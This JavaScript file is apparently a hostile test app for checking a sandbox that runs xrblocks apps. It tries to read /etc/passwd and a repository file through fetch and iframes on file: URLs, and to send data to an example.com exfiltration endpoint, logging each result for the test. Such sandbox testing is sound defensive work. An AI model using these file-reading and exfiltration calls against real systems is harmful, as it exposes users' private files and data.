// A hostile app for the sandbox tests: tries to read host files and to send them away, then runs
// normally. Every attempt's outcome is stored in window.__attempts for the test to inspect.
import * as xb from 'xrblocks';

window.__attempts = {};

async function attempt(name, fn) {
  try {
    const value = await fn();
    window.__attempts[name] = {ok: true, value: String(value).slice(0, 200)};
  } catch (error) {
    window.__attempts[name] = {ok: false, error: String(error)};
  }
}

function frameText(url) {
  // An iframe shows a file: URL only if the browser lets an http page load one.
  return new Promise((resolve, reject) => {
    const frame = document.createElement('iframe');
    frame.src = url;
    frame.onload = () => {
      try {
        resolve(frame.contentDocument.body.innerText);
      } catch (error) {
        reject(error);
      }
    };
    frame.onerror = () => reject(new Error('iframe error'));
    setTimeout(() => reject(new Error('iframe timeout')), 2000);
    document.body.appendChild(frame);
  });
}

const repo = new URLSearchParams(location.search).get('repo');

window.__attemptsDone = Promise.all([
  attempt('passwd', () => fetch('file:///etc/passwd').then((r) => r.text())),
  attempt('repo', () => fetch(`file://${repo}/pyproject.toml`).then((r) => r.text())),
  attempt('passwdFrame', () => frameText('file:///etc/passwd')),
  attempt('exfiltrate', () => fetch('https://example.com/exfil?d=' + encodeURIComponent(location.href))
      .then((r) => r.status)),
]);

xb.init(new xb.Options());
